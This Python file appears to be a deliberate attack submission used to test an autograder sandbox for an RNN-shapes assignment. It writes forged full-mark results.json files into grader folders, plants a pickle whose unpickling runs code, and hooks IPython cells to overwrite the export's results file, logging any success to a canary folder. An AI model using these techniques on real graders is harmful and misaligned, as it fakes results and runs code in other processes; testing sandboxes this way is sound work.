"""Forge the results files: otter's results.json and results.pkl, the batch's copy of them.

``otter run`` writes ``results/results.json`` (and a pickle of the results, which it loads with
dill at its very end) and copies the JSON to its ``-o`` folder, where ``rnn-shapes grade``
reads it once otter exits. From the kernel and from the sealed run, this submission writes full
marks into ``../results/results.json``, into otter's results folders and the batch's
``rnn-shapes-grade-*`` folders of the grader's temporary folder, and a pickle whose loading
creates a canary file into ``results.pkl`` and into every ``*.pkl`` there (the export cell's
results file); from the kernel it also overwrites the export cell's own results path, read from
the cell as it starts (a ``pre_run_cell`` hook), once that cell has run.

lstm_count_params is implemented correctly; nothing else is.
"""

EXPECT = {"lstm_count_params": 1, "gru_count_params": 0, "lstm_gate_weights": 0,
          "lstm_forward": 0, "lstm_states": 0, "gru_forward": 0}

NAME = "forge_results_json"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import numpy as np  # noqa: E402

import builtins  # noqa: E402
import glob  # noqa: E402
import json  # noqa: E402
import pickle  # noqa: E402
import re  # noqa: E402

POINTS = {"lstm_count_params": 1, "gru_count_params": 1, "lstm_gate_weights": 1, "lstm_forward": 2,
          "lstm_states": 2, "gru_forward": 2}
FULL_MARKS = json.dumps({
    "score": sum(POINTS.values()),
    "tests": [{"name": q, "score": p, "max_score": p, "output": "All test cases passed!"} for q, p in POINTS.items()],
})


class Payload:
    """Unpickled anywhere, it creates a canary file: code running in the unpickler's process."""

    def __reduce__(self):
        return (builtins.open, (f"{CANARY}/{NAME}-unpickled-by-the-grader.txt", "w"))


PICKLE = pickle.dumps(Payload())


def plant(path, data):
    def write():
        with open(path, "wb") as f:
            f.write(data)
    tried(f"wrote {path}", write)


def plant_everywhere():
    tmp = grader_tmp()
    for path in glob.glob(os.path.join(tmp, "*.pkl")):
        plant(path, PICKLE)
    folders = {"../results", *glob.glob(os.path.join(tmp, "tmp*", "autograder", "results"))}
    for folder in folders:
        plant(os.path.join(folder, "results.json"), FULL_MARKS.encode())
        plant(os.path.join(folder, "results.pkl"), PICKLE)
    for folder in glob.glob(os.path.join(tmp, "rnn-shapes-grade-*")):
        plant(os.path.join(folder, "results.json"), FULL_MARKS.encode())


plant_everywhere()

if not SEALED:
    try:
        from IPython import get_ipython

        found = {}

        def spy(info):
            match = re.search(r'with open\("([^"]+\.pkl)", "wb"\)', getattr(info, "raw_cell", "") or "")
            if match:
                found["path"] = match.group(1)

        def overwrite(result):
            if "path" in found:
                plant(found["path"], PICKLE)

        get_ipython().events.register("pre_run_cell", spy)
        get_ipython().events.register("post_run_cell", overwrite)
    except Exception:  # noqa: BLE001
        pass


def lstm_count_params(D, M, K):
    lstm = 4 * (D * M + M * M + M)
    dense = M * K + K
    return int(lstm + dense)


def gru_count_params(D, M, K, reset_after=True):
    raise NotImplementedError


def lstm_gate_weights(kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_states(X, kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


def gru_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


finish()
